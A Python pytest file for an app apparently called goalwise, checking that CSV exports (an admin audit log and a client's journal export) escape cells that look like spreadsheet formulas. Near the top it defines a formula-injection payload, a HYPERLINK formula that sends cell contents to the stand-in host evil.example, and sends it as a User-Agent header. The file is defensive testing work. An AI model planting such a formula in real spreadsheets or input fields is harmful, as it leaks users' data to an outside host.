"""Careless or hostile input answers 404 or 422 (never 500) and is stored harmlessly (issue 10).

SQLite only: the faults here are in parsing and validation, before any SQL runs; the property test
over every write route (``test_write_routes_fuzz.py``) and the schema fuzz run cover both shapes.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import insert
from tests.integration.test_web_auth import login
from tests.support.cast import PASSWORD, Cast, make_cast

from goalwise.services.context import Context
from goalwise.services.sharing import privacy
from goalwise.storage.tables import journal_entries

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def cast_s(sqlite_ctx: Context) -> Cast:
    return make_cast(sqlite_ctx)


@pytest.fixture
def web(sqlite_ctx: Context, cast_s: Cast) -> Iterator[TestClient]:
    from goalwise.web.app import create_app

    with TestClient(create_app(sqlite_ctx.settings, sqlite_ctx.db)) as client:
        yield client


def test_a_formula_user_agent_is_text_in_the_audit_csv(web: TestClient, cast_s: Cast) -> None:
    web.get("/login")
    web.post(
        "/login",
        data={"email": "t1@example.org", "password": "wrong", "pre_token": web.cookies.get("goalwise_pre", "")},
        headers={"User-Agent": FORMULA},
        follow_redirects=False,
    )
    web.cookies.clear()
    assert login(web, cast_s.admin.email, PASSWORD) == 303
    body = web.get("/admin/audit.csv").text
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_journal_cells_that_look_like_formulas_are_text_in_the_export(sqlite_ctx: Context, cast_s: Cast) -> None:
    now = datetime.now(UTC)
    for body in ("=1+1", "+SUM(A1)", "-2+3", "@cmd", "-3"):
        with sqlite_ctx.db.write() as conn:
            conn.execute(
                insert(journal_entries).values(
                    client_id=cast_s.client_a.client_id,
                    at=now,
                    local_on=date.today(),
                    private=True,
                    created_at=now,
                    body_enc=sqlite_ctx.keys.encrypt(body, context=b"journal_entries.body_enc"),
                )
            )
    data = privacy.export_client(sqlite_ctx, cast_s.client_a.actor, cast_s.client_a.client_id)  # type: ignore[arg-type]
    text = zipfile.ZipFile(io.BytesIO(data)).read("journal_entries.csv").decode()
    bodies = [row["body"] for row in csv.DictReader(io.StringIO(text))]
    assert bodies == ["'=1+1", "'+SUM(A1)", "'-2+3", "'@cmd", "-3"]
